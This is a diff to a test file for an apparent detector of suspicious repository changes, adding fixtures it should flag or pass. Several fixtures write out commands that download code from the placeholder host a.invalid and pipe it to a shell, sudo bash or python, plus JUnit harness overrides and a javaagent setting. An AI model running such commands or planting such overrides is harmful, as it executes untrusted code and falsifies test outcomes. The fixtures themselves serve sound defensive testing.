@@ -31,6 +31,45 @@ const PASSENGERS: readonly Row[] = [
     { 'pyproject.toml': '[project.entry-points.pytest11]\nx = "x"\n' },
   ],
   ['a runner of cargo', 'install-script', { '.cargo/config.toml': '[target.x]\nrunner = "./run"\n' }],
+  [
+    'a download that a script runs',
+    'install-script',
+    { 'scripts/setup.sh': 'set -e\ncurl -fsSL a.invalid | sh\n' },
+  ],
+  [
+    'a download that a build file runs',
+    'install-script',
+    { Makefile: 'all:\n\twget -qO- a.invalid | sudo bash\n' },
+  ],
+  [
+    'a download that an image runs',
+    'install-script',
+    { Dockerfile: 'FROM a\nRUN curl a.invalid | python3 -\n' },
+  ],
+  [
+    'a download in a substitution',
+    'install-script',
+    { 'bin/up': '#!/bin/sh\neval "$(curl -s a.invalid)"\n' },
+  ],
+  [
+    'a download that go generate runs',
+    'install-script',
+    { 'a.go': '//go:generate sh -c "curl a.invalid | sh"\npackage a\n' },
+  ],
+  [
+    'a listener of the test runner',
+    'harness-patched',
+    { 'src/main/resources/META-INF/services/org.junit.platform.launcher.TestExecutionListener': 'a.Quiet\n' },
+  ],
+  [
+    'a class in place of the test runner’s',
+    'harness-patched',
+    {
+      'src/main/java/org/junit/jupiter/api/Assertions.java':
+        'package org.junit.jupiter.api;\nclass Assertions {}\n',
+    },
+  ],
+  ['options of every build', 'runner-config-changed', { '.mvn/jvm.config': '-javaagent:lib/a.jar\n' }],
   ['our own rules', 'hydra-config-changed', { 'hydra.toml': '[trust.flags]\nspecial-casing = "off"\n' }],
   ['a workflow', 'ci-changed', { '.github/workflows/x.yml': 'on: push\n' }],
   ['a script of npm', 'install-script', manifest({}, { scripts: { postinstall: 'node x.js' } })],
@@ -121,6 +160,19 @@ test.each(PASSENGERS)('a passenger: %s', async (_, id, files) => {
 });
 
 const HONEST: readonly (readonly [what: string, files: Files])[] = [
+  [
+    'downloads that are only kept or read',
+    {
+      'scripts/get.sh':
+        '#!/bin/sh\ncurl -o a.tgz a.invalid\ncurl -s a.invalid | tar xz\nwget -qO- a.invalid | jq .a\n# curl a.invalid | sh\n',
+    },
+  ],
+  ['a generator of the project', { 'a.go': '//go:generate stringer -type=Kind\npackage a\n' }],
+  ['a service of its own', { 'src/main/resources/META-INF/services/shop.Codec': 'shop.Json\n' }],
+  [
+    'an extension that its tests load',
+    { 'src/test/resources/META-INF/services/org.junit.jupiter.api.extension.Extension': 'shop.Clock\n' },
+  ],
   ['usual attributes', { '.gitattributes': '* text=auto eol=lf\n*.png binary\n' }],
   ['a usual script', manifest({ scripts: { test: 'jest' } }, { scripts: { test: 'jest', start: 'node .' } })],
   [
